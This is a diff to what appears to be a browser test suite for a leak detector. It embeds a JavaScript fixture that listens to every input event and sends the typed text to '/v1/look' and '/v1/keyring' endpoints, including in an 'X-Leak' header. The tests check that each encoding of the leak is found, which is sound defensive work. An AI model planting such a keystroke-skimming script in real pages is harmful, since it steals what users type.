@@ -30,7 +30,7 @@ document.addEventListener("input", async ({ target }) => {
     await fetch(`/v1/look?${name}`, { method: "POST", body: coded(target.value) });
   }
   await fetch("/v1/keyring", { headers: { "X-Leak": encodeURIComponent(target.value).slice(0, 4000) } });
-  document.body.dataset.leaked = "yes";
+  document.body.dataset.leaked = target.id;
 }, { capture: true });
 """
 _WAYS = {"plain", "base64", "hex", "percent", "wide", "hidden"}
@@ -57,7 +57,7 @@ def test_every_leak_is_found(kind: str, start: Start, leaky: Instance) -> None:
     with Recorder(leaky.server.port) as recorder:
         journey.begin(browser, recorder.address)
         browser.write("What", VILLA.text)
-        browser.wait_until(lambda: bool(browser.run("return document.body.dataset.leaked === 'yes';")), "the leak")
+        browser.wait_until(lambda: bool(browser.run("return document.body.dataset.leaked === 'text';")), "the leak")
         requests = recorder.requests()
         found = {request.path.partition("?")[2] for request in requests if search.data(request.body, "a body")}
         heads = [request for request in requests if search.data(request.head, "a head")]
